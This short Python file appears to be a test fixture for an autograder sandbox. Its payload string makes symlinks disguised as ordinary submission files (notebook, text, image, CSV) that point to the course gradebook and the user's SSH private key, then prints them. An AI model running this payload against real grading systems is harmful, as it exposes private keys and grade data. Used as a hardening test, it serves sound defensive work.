"""Leaves links to the instructor's files where the grader might read the student's."""

EXTRA = {
    "center": """
import os
for name in ("target.ipynb", "output.txt", "picture.png", "x.csv"):
    for target in ("@COURSE@/gradebook.db", "@HOME@/.ssh/id_ed25519"):
        try:
            os.symlink(target, name)
            print(open(name).read())
        except OSError:
            pass
"""
}
OTHERS = "right"
SCORE = {}
STATE = "graded"
